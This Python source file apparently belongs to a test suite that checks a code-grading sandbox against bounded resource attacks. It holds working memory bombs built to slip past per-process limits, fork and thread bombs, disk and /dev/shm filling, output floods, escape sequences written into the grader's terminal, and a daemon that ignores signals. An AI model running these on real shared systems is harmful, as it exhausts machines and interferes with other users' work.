"""Attacks on what the machine has: memory, processes, disk, and the terminal and notebook that output goes to.

A bomb is bounded: it takes 1 GB, beside the kernel's own half, or a few hundred processes, holds them
for a moment, and gives them back. It has gone off when it says so at the end.
"""

from __future__ import annotations

from hostile.attack import Attack, Seen
from hostile.loot import FIRST, KNOWN, LAST, MODEL, SPOT, loot, told, with_honest

NO_MEMORY = "out of memory"
BYTES = 2**30

MEMORY = f"""
import time
blocks = [b"x" * 2**26 for _ in range({BYTES} // 2**26)]
time.sleep(1)
print("loot", "memory", sep="=")
del blocks
"""

# Each process stays far below any limit of one process.
SPREAD = f"""
import os, time
reader, writer = os.pipe()
for _ in range(4):
    if os.fork() == 0:
        try:
            blocks = [b"x" * 2**26 for _ in range({BYTES} // 2**26 // 4)]
            os.write(writer, b"1")
            time.sleep(4)
        finally:
            os._exit(0)
for _ in range(4):
    os.read(reader, 1)
time.sleep(1)
print("loot", "spread", sep="=")
"""

# Not the process's own data, so RLIMIT_DATA does not count it.
SHARED = f"""
import mmap, time
block = mmap.mmap(-1, {BYTES})
for start in range(0, {BYTES}, 2**22):
    block[start : start + 2**22] = b"x" * 2**22
time.sleep(1)
print("loot", "shared", sep="=")
block.close()
"""

# The same, and each part is let go at once: it stays in the mapping, but no process seems to have it.
UNSEEN = f"""
import mmap, os, time
for file in (-1, os.open("/dev/zero", os.O_RDWR)):
    block = mmap.mmap(file, {BYTES})
    for start in range(0, {BYTES}, 2**22):
        block[start : start + 2**22] = b"x" * 2**22
        block.madvise(mmap.MADV_DONTNEED, start, 2**22)
    time.sleep(1)
    if all(block[start] == ord("x") for start in range(0, {BYTES}, 2**22)):
        print("loot", "unseen", sep="=")
    block.close()
"""

# In no process's memory at all, and in no folder: only the open file holds it.
UNNAMED = f"""
import os, time
file = os.memfd_create("unnamed")
for _ in range({BYTES} // 2**26):
    os.write(file, b"x" * 2**26)
time.sleep(1)
print("loot", "memfd", sep="=")
os.close(file)
"""

SEGMENT = f"""
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0, ctypes.c_size_t({BYTES}), 0o1600)
if segment == -1:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
place = libc.shmat(segment, None, 0)
libc.shmctl(segment, 0, None)  # it goes with its last user
ctypes.memset(place, 1, {BYTES})
time.sleep(1)
print("loot", "segment", sep="=")
libc.shmdt(ctypes.c_void_p(place))
"""

# What was sent and is not received yet belongs to no process.
SOCKETS = f"""
import os, socket, time
reader, writer = os.pipe()
def fill(sent=0):
    pairs = []
    while sent < {BYTES} // 8:
        pairs.append(socket.socketpair())
        for side in pairs[-1]:
            side.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)  # the system takes what it allows
            side.setblocking(False)
            try:
                while True:
                    sent += side.send(b"x" * 2**15)
            except BlockingIOError:
                pass
    os.write(writer, b"1")
    time.sleep(8)
for _ in range(8):
    if os.fork() == 0:
        try:
            fill()
        except BaseException:
            os.write(writer, b"0")
        finally:
            os._exit(0)
if all(os.read(reader, 1) == b"1" for _ in range(8)):
    time.sleep(1)
    print("loot", "sockets", sep="=")
"""

# A few bytes of each large page go into a pipe, and the page itself is given back: the pipe keeps it whole.
PIPES = f"""
import ctypes, mmap, os, time
libc, large = ctypes.CDLL(None, use_errno=True), 2**21
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
block = mmap.mmap(-1, 17 * large, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
start = -(-ctypes.addressof(ctypes.c_char.from_buffer(block)) // large) * large
def advise(how):
    libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(16 * large), how)
pipes = []
advise(mmap.MADV_HUGEPAGE)
for _ in range({BYTES} // large // 16):
    ctypes.memset(start, 1, 16 * large)
    pipes.append(os.pipe())
    for i in range(16):
        if libc.vmsplice(pipes[-1][1], ctypes.byref(Part(start + i * large, 100)), ctypes.c_size_t(1), 0) != 100:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    advise(mmap.MADV_DONTNEED)
time.sleep(1)
print("loot", "pipes", sep="=")
for ends in pipes:
    list(map(os.close, ends))
"""

SEMAPHORES = """
import ctypes, os, time
libc, sets = ctypes.CDLL(None, use_errno=True), []
try:
    for _ in range(500):  # 32000 of 64 bytes each
        sets.append(libc.semget(0, 32000, 0o600))
        if sets[-1] == -1:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    time.sleep(1)
    print("loot", "semaphores", sep="=")
finally:
    for each in sets:
        libc.semctl(each, 0, 0)
"""

FORKS = """
import os, time
children = []
try:
    for _ in range(400):
        children.append(os.posix_spawnp("sleep", ["sleep", "8"], os.environ))
    time.sleep(1)
    print("loot", "forks", sep="=")
finally:
    for child in children:
        os.kill(child, 9)
        os.waitpid(child, 0)
"""

THREADS = """
import threading, time
threads = [threading.Thread(target=time.sleep, args=(4,), daemon=True) for _ in range(600)]
for thread in threads:
    thread.start()
time.sleep(1)
print("loot", "threads", sep="=")
"""

RAISED = """
import resource
print(resource.getrlimit(resource.RLIMIT_DATA), resource.getrlimit(resource.RLIMIT_FSIZE))
for which in (resource.RLIMIT_DATA, resource.RLIMIT_FSIZE, resource.RLIMIT_AS):
    resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
print("loot", "raised", sep="=")
"""

HUGE_FILE = """
import time
with open("huge.bin", "wb") as file:
    for _ in range(8):
        file.write(b"x" * 50_000_000)
time.sleep(1)
print("loot", "huge", sep="=")
"""

FILLED = """
import os, pathlib, time
files = [pathlib.Path("PLACE") / f"hostile-{os.getpid()}-{i}.bin" for i in range(8)]
try:
    for path in files:
        path.write_bytes(b"x" * 50_000_000)
    time.sleep(1)
    print("loot", "filled", sep="=")
finally:
    for path in files:
        path.unlink(missing_ok=True)
"""

MANY_FILES = """
import time
for i in range(50_000):
    open(f"{i}.txt", "w").close()
time.sleep(1)
print("loot", "files", sep="=")
"""

FLOOD = """
for i in range(300_000):
    print("x" * 100)
"""
LINE = 'print("x" * 30_000_000)'
BY_DESCRIPTOR = """
import os
for _ in range(300):
    os.write(1, b"x" * 100_000)
"""
STDERR = """
import sys
for i in range(300_000):
    print("x" * 100, file=sys.stderr)
"""
TRACEBACK = 'raise ValueError("x" * 12_000_000)'
MARKUP = """
from IPython.display import HTML, display
display(HTML("<b>x</b>" * 4_000_000))
"""

# A terminal does what it reads: set its title, type into it, write into files.
TERMINAL = """
import os, stat
for pid in (os.getpid(), os.getppid()):
    try:
        descriptors = [0, 1, 2] if pid == os.getppid() else [int(name) for name in os.listdir("/proc/self/fd")]
    except OSError:
        continue
    for descriptor in descriptors:
        path = f"/proc/{pid}/fd/{descriptor}"
        try:
            info = os.stat(path)
            if os.readlink(path).endswith(("/null", ".sock", ".db")) or stat.S_ISSOCK(info.st_mode):
                continue
            with open(path, "ab", 0) as file:
                file.write(b"\\x1b]0;" + b"lo" b"ot\\x07\\n")
        except OSError:
            pass
"""

DAEMON = (
    KNOWN
    + """
import os, signal, time
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            until = time.time() + 40
            while time.time() < until:
                try:
                    (course / "submitted" / "heartbeat.txt").write_text(str(time.time()))
                except OSError:
                    pass
                time.sleep(0.2)
    finally:
        os._exit(0)
os.wait()
print("started")
"""
)


def _large(seen: Seen) -> bool:
    return len(seen.own) > 10_000_000


ATTACKS = [
    Attack(
        "memory-bomb", "takes 1 GB in one process", "stock",
        loot("memory"), *with_honest(MEMORY), says=NO_MEMORY,
    ),
    Attack(
        "memory-spread", "takes 1 GB in four processes", "stock",
        loot("spread"), *with_honest(SPREAD), says=NO_MEMORY,
    ),
    Attack(
        "memory-shared", "takes 1 GB of shared memory, which a limit on data does not count", "stock",
        loot("shared"), *with_honest(SHARED), says=NO_MEMORY,
    ),
    Attack(
        "memory-unseen", "takes 1 GB of shared memory and lets go of each part without giving it back", "stock",
        loot("unseen"), *with_honest(UNSEEN), says=f"{NO_MEMORY}|Operation not permitted",
    ),
    Attack(
        "memory-file", "takes 1 GB in a file of memfd_create, which belongs to no process's memory", "unwalled",
        loot("memfd"), *with_honest(UNNAMED), says="Operation not permitted",
    ),
    Attack(
        "memory-segment", "takes 1 GB in a SysV segment", "stock",
        loot("segment"), *with_honest(SEGMENT), says="Operation not permitted",
    ),
    Attack(
        "memory-in-sockets", "takes 1 GB by sending to itself what it never reads", "unwalled",
        loot("sockets"), *with_honest(SOCKETS),
    ),
    Attack(
        "memory-in-pipes", "takes 1 GB as large pages that only a pipe still holds", "unwalled",
        loot("pipes"), *with_honest(PIPES), says="Operation not permitted",
    ),
    Attack(
        "memory-in-semaphores", "takes 1 GB of the kernel's memory in sets of semaphores", "unwalled",
        loot("semaphores"), *with_honest(SEMAPHORES), says="Operation not permitted",
    ),
    Attack(
        "fork-bomb", "starts 400 processes", "stock",
        loot("forks"), *with_honest(FORKS), says="Resource temporarily unavailable|processes", fast=True,
    ),
    Attack(
        "thread-bomb", "starts 600 threads", "unwalled", loot("threads"),
        {FIRST: MODEL[FIRST], SPOT: THREADS, LAST: MODEL[LAST]}, (FIRST,), loses=(LAST,), says="can't start new thread",
    ),
    Attack(
        "limits-raised", "lifts its own limits", "unwalled",
        loot("raised"), *with_honest(RAISED), says="ValueError|PermissionError",
    ),
    Attack(
        "huge-file", "writes a file of 400 MB", "unwalled",
        loot("huge"), *with_honest(HUGE_FILE), says="File too large|No space left",
    ),
    Attack(
        "disk-filled", "fills the current folder with files of 50 MB", "unwalled",
        loot("filled"), *with_honest(FILLED.replace("PLACE", ".")), says="No space left",
    ),
    Attack(
        "shared-memory-filled", "fills /dev/shm, which all programs of the machine share", "unwalled",
        loot("filled"), *with_honest(FILLED.replace("PLACE", "/dev/shm")), says="No space left",
    ),
    Attack(
        "many-files", "makes 50,000 empty files", "unwalled",
        loot("files"), *with_honest(MANY_FILES), says="files|No space left",
    ),
    Attack(
        "output-flood", "prints 30 MB in short lines", "harmless",
        _large, *with_honest(FLOOD), says="was cut here|messages",
    ),
    Attack(
        "output-line", "prints one line of 30 MB", "stock",
        _large, *with_honest(LINE), says=r"was cut here|x \.\.\.",
    ),
    Attack(
        "output-by-descriptor", "writes 30 MB past IPython, to file descriptor 1", "stock",
        _large, *with_honest(BY_DESCRIPTOR),
    ),
    Attack(
        "error-flood", "prints 30 MB to stderr", "harmless",
        _large, *with_honest(STDERR), says="was cut here|messages",
    ),
    Attack(
        "output-markup", "displays 32 MB of markup", "stock",
        _large, *with_honest(MARKUP), says="was cut here|too large|messages",
    ),
    Attack(
        "traceback-flood", "raises an error with a text of 12 MB", "stock",
        _large, *with_honest(TRACEBACK),
    ),
    Attack(
        "terminal-written", "sends control sequences to the terminal of whoever grades", "unwalled",
        lambda seen: "\x1b]0;loot" in seen.text, *with_honest(TERMINAL),
    ),
    Attack(
        "daemon", "leaves a process of its own session behind, which ignores signals and writes on", "unwalled",
        lambda seen: bool(seen.left) or any("heartbeat" in name for name in seen.changed),
        *with_honest(DAEMON), beside=told, says="started",
    ),
]  # fmt: skip
